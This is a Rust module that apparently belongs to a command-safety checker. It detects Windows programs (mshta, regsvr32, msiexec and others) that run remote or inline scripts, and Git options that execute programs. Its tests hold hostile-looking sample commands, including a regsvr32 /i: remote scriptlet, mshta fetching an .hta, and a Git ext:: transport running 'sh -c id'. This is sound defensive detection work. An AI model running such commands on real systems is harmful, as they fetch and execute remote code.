//! Programs of a system that run what they are told by an option or an address: those of Windows that take a script, a
//! library or a package from anywhere, and Git's settings.

use super::loader::is_risky_setting;

/// Index of the argument by which a program of Windows runs what lies on another machine, or stands in the line itself.
pub(super) fn runs_remote(program: &str, args: &[&str]) -> Option<usize> {
    let far = |word: &str| {
        let lower = word.trim_matches(['"', '\'']).to_ascii_lowercase();
        let share = lower.starts_with("\\\\") && !lower.starts_with("\\\\wsl");
        share || ["http://", "https://", "ftp://"].iter().any(|p| lower.starts_with(p))
    };
    let script = |word: &str| {
        let lower = word.trim_matches(['"', '\'']).to_ascii_lowercase();
        ["javascript:", "vbscript:", "about:<"].iter().any(|p| lower.starts_with(p))
    };
    let found: &dyn Fn(&str) -> bool = match program {
        "mshta" | "rundll32" => &|w| far(w) || script(w),
        "wscript" | "cscript" | "hh" | "installutil" => &far,
        "regsvr32" => &|w| far(w) || w.get(..3).is_some_and(|f| f.eq_ignore_ascii_case("/i:") && far(&w[3..])),
        "msiexec" => &far,
        _ => return None,
    };
    args.iter().position(|a| found(a))
}

/// Index of a setting on Git's command line that runs a program.
pub(super) fn setting(args: &[&str]) -> Option<usize> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let next = args.get(at + 1).copied().unwrap_or_default();
        match *arg {
            "-c" | "--config-env" if risky(next) => return Some(at + 1),
            "-c" | "-C" | "--config-env" | "--git-dir" | "--work-tree" | "--namespace" => at += 1,
            _ if arg.strip_prefix("--config-env=").is_some_and(risky) || arg.starts_with("--exec-path=") => {
                return Some(at);
            }
            _ if arg.starts_with('-') => {}
            // the verb; its own options may name a program for the other side
            _ => return args[at..].iter().position(|a| is_pack(a)).map(|i| at + i),
        }
        at += 1;
    }
    None
}

fn is_pack(arg: &str) -> bool {
    let program = ["--upload-pack=", "--receive-pack="].iter().find_map(|p| arg.strip_prefix(p));
    program.is_some_and(|p| !p.starts_with("git-")) || arg.starts_with("ext::")
}

/// A setting that runs something; a usual pager is not meant.
fn risky(setting: &str) -> bool {
    let (key, value) = setting.split_once('=').unwrap_or((setting, "x"));
    is_risky_setting(key) && !["", "cat", "less", "true", "false", "never"].contains(&value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_that_run_what_an_address_holds_are_told_from_their_plain_use() {
        for (program, args) in [
            ("mshta", vec!["https://a.test/x.hta"]),
            ("mshta", vec!["vbscript:Execute(1)"]),
            ("rundll32", vec!["\\\\a.test\\s\\x.dll,Main"]),
            ("regsvr32", vec!["/s", "/u", "/i:https://a.test/x.sct", "scrobj.dll"]),
            ("msiexec", vec!["/q", "/i", "https://a.test/x.msi"]),
            ("cscript", vec!["//nologo", "\\\\a.test\\x.vbs"]),
        ] {
            assert!(runs_remote(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("mshta", vec!["C:\\x\\a.hta"]),
            ("rundll32", vec!["shell32.dll,Control_RunDLL"]),
            ("cscript", vec!["//nologo", "C:\\x\\server.vbs", "a"]),
            ("node", vec!["x.js", "https://a.test"]),
        ] {
            assert_eq!(runs_remote(program, &args), None, "{program} {args:?}");
        }
    }

    #[test]
    fn settings_of_git_that_run_a_program_are_seen() {
        for (args, at) in [
            (vec!["-c", "core.sshCommand=./x", "fetch"], 1),
            (vec!["-C", "/srv", "-c", "protocol.ext.allow=always", "clone", "ext::sh -c id"], 3),
            (vec!["--exec-path=/srv/x", "status"], 0),
            (vec!["clone", "--upload-pack=./x", "a:b"], 1),
        ] {
            assert_eq!(setting(&args), Some(at), "{args:?}");
        }
        for args in [
            vec!["-c", "safe.directory=*", "mcp"],
            vec!["-c", "core.pager=cat", "log"],
            vec!["-C", "/srv", "status", "-c", "core.sshCommand=x"],
            vec!["mcp"],
        ] {
            assert_eq!(setting(&args), None, "{args:?}");
        }
    }
}
